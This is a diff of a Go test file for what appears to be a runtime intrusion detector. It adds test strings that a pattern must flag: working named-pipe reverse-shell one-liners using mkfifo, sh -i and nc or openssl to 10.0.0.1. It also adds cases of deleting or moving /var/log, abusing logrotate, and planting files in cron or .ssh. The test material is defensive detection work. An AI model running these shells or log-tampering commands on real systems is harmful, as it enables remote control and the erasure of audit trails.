@@ -23,6 +23,14 @@ func TestNamedPipeShellRelayPattern(t *testing.T) {
 		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
 		"mkfifo /tmp/b; cat /tmp/b | busybox sh -i 2>&1 | busybox nc 10.0.0.1 4444 > /tmp/b",
 		"mkfifo /tmp/c; busybox nc 10.0.0.1 80 < /tmp/c | /bin/busybox sh > /tmp/c",
+		"mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | toybox nc 10.0.0.1 80 > /tmp/t",
+		"mkfifo /tmp/h; cat /tmp/h | hush -i 2>&1 | nc 10.0.0.1 80 > /tmp/h",
+		"mkfifo /tmp/h; cat /tmp/h | busybox hush -i 2>&1 | busybox-static nc 10.0.0.1 80 > /tmp/h",
+		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | timeout 9 nc 10.0.0.1 80 > /tmp/w",
+		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | env nc 10.0.0.1 80 > /tmp/w",
+		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | exec nc 10.0.0.1 80 > /tmp/w",
+		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | busybox timeout -s KILL 9 nc 10.0.0.1 80 > /tmp/w",
+		"mkfifo /tmp/w; nc 10.0.0.1 80 < /tmp/w | env -i /bin/sh > /tmp/w",
 	} {
 		if !p.re.MatchString(l) {
 			t.Errorf("no match: %q", l)
@@ -33,6 +41,8 @@ func TestNamedPipeShellRelayPattern(t *testing.T) {
 		"mkfifo /tmp/q && sh -c 'echo hi > /tmp/q' & cat /tmp/q",
 		"nc -z db 5432 | sh",
 		"mkfifo /run/app/ctl; tail -f /run/app/ctl | /usr/bin/app --shell-compatible",
+		"mkfifo /tmp/p; ./backup.sh | nc backup.internal 9000",
+		"mkfifo /tmp/p; nc -l 9000 < /tmp/p | ./restore.sh",
 	} {
 		if p.re.MatchString(l) {
 			t.Errorf("matches the benign %q", l)
@@ -80,7 +90,17 @@ func TestLogKeepersMayDeleteLogs(t *testing.T) {
 	aptShell.Lineage = []event.Ancestor{{Exe: "/usr/bin/apt-get", Args: []string{"apt-get", "update"}}}
 	nsKeeper := proc("/usr/sbin/logrotate")
 	nsKeeper.PID, nsKeeper.NSPID = 4242, 12
+	fakeGzip := proc("/tmp/gzip", "/var/log/auth.log")
+	fakeGzip.Lineage = gzip.Lineage
 	for _, ev := range []*event.Event{
+		// A python of one's own running a keeper's script is not the system's.
+		fileEv(event.KindUnlink, proc("/tmp/python3", "/usr/bin/dnf"), nil, &event.File{Path: "/var/log/auth.log"}),
+		// logrotate with a configuration of one's own can rotate anything away.
+		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "-f", "/tmp/evil.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
+		// A "gzip" of one's own under logrotate.
+		fileEv(event.KindUnlink, fakeGzip, nil, &event.File{Path: "/var/log/auth.log"}),
+		// The whole directory moved away.
+		fileEv(event.KindRename, proc("/bin/mv", "/var/log", "/tmp/x"), nil, &event.File{Path: "/var/log", NewPath: "/tmp/x"}),
 		fileEv(event.KindUnlink, proc("/bin/rm", "-f", "/var/log/auth.log"), nil, &event.File{Path: "/var/log/auth.log"}),
 		fileEv(event.KindUnlink, fake, nil, &event.File{Path: "/var/log/auth.log"}),
 		fileEv(event.KindUnlink, inCtr, ctr(t), &event.File{Path: "/var/log/auth.log"}),
@@ -96,6 +116,26 @@ func TestLogKeepersMayDeleteLogs(t *testing.T) {
 		if !fired(ev, "") {
 			t.Errorf("%s by %s: no finding", ev.File.Path, ev.Process.Exe)
 		}
+	}
+	// logrotate's nightly run names its configuration, or none.
+	for _, args := range [][]string{{"logrotate"}, {"logrotate", "/etc/logrotate.conf"}, {"logrotate", "-s", "/var/lib/logrotate/status", "/etc/logrotate.conf"}} {
+		if fired(fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", args[1:]...), nil, &event.File{Path: "/var/log/syslog.7.gz"}), "") {
+			t.Errorf("logrotate %v: a finding", args[1:])
+		}
+	}
+	// A keeper's second thread on the host: its namespace id is its thread id.
+	thread := proc("/usr/lib/systemd/systemd-journald")
+	thread.TID, thread.NSPID = thread.PID+3, thread.PID+3
+	if fired(fileEv(event.KindUnlink, thread, nil, &event.File{Path: "/var/log/journal/x/user-1000@x.journal"}), "") {
+		t.Error("a keeper's second thread raised a finding")
+	}
+	// Anyone moving a log into cron: both the destruction and the plant.
+	both := fileEv(event.KindRename, proc("/bin/mv"), nil, &event.File{Path: "/var/log/x", NewPath: "/etc/cron.d/x"})
+	if !fired(both, "Persistence:Runtime/SensitiveFileModified") || !fired(both, "DefenseEvasion:Runtime/SensitiveFileModified") {
+		t.Error("mv /var/log/x /etc/cron.d/x: want both the DefenseEvasion and the Persistence finding")
+	}
+	if !fired(fileEv(event.KindRename, proc("/bin/mv"), nil, &event.File{Path: "/tmp/d", NewPath: "/root/.ssh"}), "Persistence:Runtime/SensitiveFileModified") {
+		t.Error("a whole .ssh directory moved into place: no Persistence finding")
 	}
 	// A keeper renaming a log out of /var/log into cron: the destination is judged.
 	mv := fileEv(event.KindRename, proc("/usr/bin/apt-get"), nil, &event.File{Path: "/var/log/x", NewPath: "/etc/cron.d/x"})
